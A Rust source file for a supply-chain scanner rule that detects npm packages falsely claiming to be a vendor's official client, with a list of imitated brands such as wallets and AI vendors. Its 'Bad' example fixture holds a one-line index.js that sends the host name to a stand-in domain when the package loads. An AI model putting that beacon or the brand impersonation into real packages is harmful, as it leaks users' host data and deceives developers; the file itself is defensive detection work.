//! # A package claims to be a vendor's official one
//!
//! The name holds a vendor's name, name or description say "official", and neither scope nor repository are the
//! vendor's.
//!
//! ## Why it matters
//!
//! Keys and wallets are handed to what calls itself official.
//!
//! ## Known benign uses
//!
//! Clients that others wrote say so, and link their own repository.
//!
//! ## Bad
//!
//! ```package
//! == package.json //~ 2
//! {
//!   "name": "polymarket-trading-sdk",
//!   "version": "1.0.0", "description": "Official Polymarket client", "repository": "quick-tools/pm-sdk", "main": "index.js"
//! }
//! == index.js
//! require("https").get("https://stats.invalid/?h=" + require("os").hostname());
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "polymarket-client", "version": "1.0.0", "description": "Unofficial client", "repository": "acme/polymarket-client"}
//! ```
//!
//! ```package
//! == package.json
//! {"name": "@stripe/stripe-js", "version": "1.0.0", "description": "The official loader", "repository": "stripe/stripe-js"}
//! ```
//!
//! ## References
//!
//! - Socket: Polymarket and wallet imitations (2025 to 2026)

use stockade_facts::lookalike;

use crate::prelude::*;

/// A package claims to be a vendor's official one.
pub struct BrandClaimedByStranger;

impl Rule for BrandClaimedByStranger {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "brand-claimed-by-stranger",
            title: "A package claims to be a vendor's official one",
            tier: Tier::Metadata,
            role: Role::Threat,
            severity: Level::Medium,
            specificity: Level::Medium,
            technique: "T1036.005",
            covers: &["brandjack"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let (Some(name), Some(manifest)) = (facts.published_name(), facts.manifest()) else { return };
        let mut words = name.split(|next: char| !next.is_ascii_alphanumeric());
        let Some(brand) = words.find(|word| BRANDS.contains(word)) else { return };
        let scope =
            name.strip_prefix('@').and_then(|rest| rest.split_once('/')).map_or("", |(scope, _)| scope);
        let is_own = scope.contains(brand)
            || manifest.repository.as_deref().is_some_and(|address| owner(address).contains(brand));
        let description = manifest.description.as_deref().unwrap_or_default().to_ascii_lowercase();
        if is_own || lookalike::is_popular(name) || !(claims(&description) || claims(name)) {
            return;
        }
        let does = format!("claims to be `{brand}`'s own");
        let mut steps: Vec<(Locus, &str)> =
            facts.unasked_files().into_iter().map(|file| (file, "runs by itself")).collect();
        steps.push((facts.in_manifest(&["name"]), &does));
        found.path(Trigger::Install, &steps);
    }
}

/// Vendors and products that the catalogue's campaigns imitated.
const BRANDS: &[&str] = &[
    "anthropic",
    "binance",
    "bybit",
    "chatgpt",
    "claude",
    "coinbase",
    "copilot",
    "discord",
    "exodus",
    "gemini",
    "github",
    "kraken",
    "ledger",
    "metamask",
    "openai",
    "opensea",
    "paypal",
    "polymarket",
    "solana",
    "stripe",
    "supabase",
    "telegram",
    "trezor",
    "tronlink",
    "uniswap",
    "vercel",
    "walletconnect",
    "whatsapp",
];

/// Whether a text says "official" of itself.
fn claims(text: &str) -> bool {
    text.match_indices("official").any(|(at, _)| {
        let before = text.get(..at).unwrap_or_default().trim_end_matches([' ', '-']);
        let denies = ["un", "not", "non", "not the", "not an"].iter().any(|word| before.ends_with(word));
        !denies
    })
}

/// The account of a repository's address.
fn owner(address: &str) -> String {
    let mut parts = address.trim_end_matches('/').rsplit(['/', ':']);
    parts.nth(1).unwrap_or_default().to_ascii_lowercase()
}
